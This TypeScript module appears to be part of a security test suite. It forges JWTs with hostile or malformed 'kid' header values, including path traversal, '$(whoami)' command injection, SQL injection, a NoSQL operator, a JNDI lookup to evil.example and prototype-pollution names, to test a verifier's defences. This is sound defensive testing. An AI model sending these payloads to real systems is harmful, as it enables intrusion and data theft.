import type { Attack } from '../attack.ts';
import { forgeOf } from '../issuer-kinds.ts';

const NO_NAME = [undefined, null, true, 0, 1, 1.5, [], {}, '', { kid: 'x' }, [['x']]];
const UNUSABLE = [
  'x'.repeat(129),
  'with space',
  'line\nbreak',
  'nul\0',
  'tab\t',
  '\u00e9',
  '\u202e',
  '\ud83d\udd11',
  ' ',
];
/** Names that some back end would look up, open, run or take for something else. */
const TEMPTING = [
  ...[
    '../../../../etc/passwd',
    '/dev/null',
    'C:\\key.pem',
    'file:///etc/passwd',
    '..%2f..%2fkeys',
    '|whoami',
    '$(whoami)',
  ],
  ...[
    "'/**/OR/**/1=1--",
    "x';DROP/**/TABLE/**/keys;--",
    '{"$ne":null}',
    '*',
    '%00',
    '#{jndi:ldap://evil.example/a}',
  ],
  ...[
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    'undefined',
    'null',
    'true',
    '0',
    'NaN',
    'keys',
    'kid',
  ],
];

export const keyIds: readonly Attack[] = [
  {
    what: 'a kid that is missing, or is no text',
    tokens: (kind, { now }) => NO_NAME.map((kid) => forgeOf(kind, now, { header: { kid } })),
  },
  {
    what: 'a kid that is a list with the right one in it',
    tokens: (kind, { now }) =>
      [[kind.key.kid], { 0: kind.key.kid, length: 1 }].map((kid) => forgeOf(kind, now, { header: { kid } })),
  },
  {
    what: 'a kid that is too long, or has characters that no kid has',
    tokens: (kind, { now }) =>
      [...UNUSABLE, `${kind.key.kid} `, `${kind.key.kid}\0`, `${kind.key.kid}\n`].map((kid) =>
        forgeOf(kind, now, { header: { kid } }),
      ),
  },
  {
    what: 'a kid of 10 KB, and one that fills the 8 KiB',
    tokens: (kind, { now }) =>
      ['k'.repeat(10_240), 'k'.repeat(4_000)].map((kid) => forgeOf(kind, now, { header: { kid } })),
  },
  {
    what: 'a kid that is a path, SQL, a pattern, or a name of Object.prototype',
    needsKey: true,
    tokens: (kind, { now }) => TEMPTING.map((kid) => forgeOf(kind, now, { header: { kid } })),
  },
  {
    what: 'the right kid in another casing, cut short or made longer',
    needsKey: true,
    tokens: (kind, { now }) => {
      const { kid } = kind.key;
      const swapped = kid.replace(/[a-z]/, (letter) => letter.toUpperCase());
      return [swapped, kid.slice(1), kid.slice(0, -1), `${kid}x`, `x${kid}`].map((other) =>
        forgeOf(kind, now, { header: { kid: other } }),
      );
    },
  },
];
